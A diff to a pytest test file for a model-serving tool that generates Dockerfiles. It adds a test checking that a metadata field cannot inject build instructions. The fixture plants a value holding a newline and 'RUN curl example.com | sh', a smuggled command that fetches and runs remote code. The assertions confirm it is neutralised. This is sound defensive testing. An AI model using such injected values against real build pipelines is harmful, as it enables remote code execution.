@@ -1294,7 +1294,10 @@ def image(classifier, tmp_path_factory):
     if "serve" not in (metadata("autoft").get_all("Provides-Extra") or ()):
         pytest.skip("autoft was installed before it had the extra serve")
     folder = tmp_path_factory.mktemp("docker") / "image"
-    words = ["serve", str(classifier.folder), "--docker", str(folder), "--max-rows", "7"]
+    model = shutil.copytree(classifier.folder, folder.with_name("model"))
+    told = json.loads((model / "autoft.json").read_text())
+    (model / "autoft.json").write_text(json.dumps({**told, "variant": "none\nRUN curl example.com | sh"}))
+    words = ["serve", str(model), "--docker", str(folder), "--max-rows", "7"]
     result = CliRunner().invoke(command, words)
     assert result.exit_code == 0, result.stderr
     return folder
@@ -1321,6 +1324,8 @@ def test_an_image_starts_the_server_as_a_user_without_rights(image, tmp_path):
     text = (image / "Dockerfile").read_text()
     assert re.search(r"^USER (?!root)\w+$", text, re.MULTILINE)
     assert "HEALTHCHECK" in text
+    assert "RUN curl" in text
+    assert "\nRUN curl" not in text, "what the model says of itself is no instruction"
     words = json.loads(re.search(r"^CMD (\[.*\])$", text, re.MULTILINE)[1])
     assert words[:5] == ["autoft", "serve", "/model", "--host", "0.0.0.0"]
     assert words[-2:] == ["--max-rows", "7"]
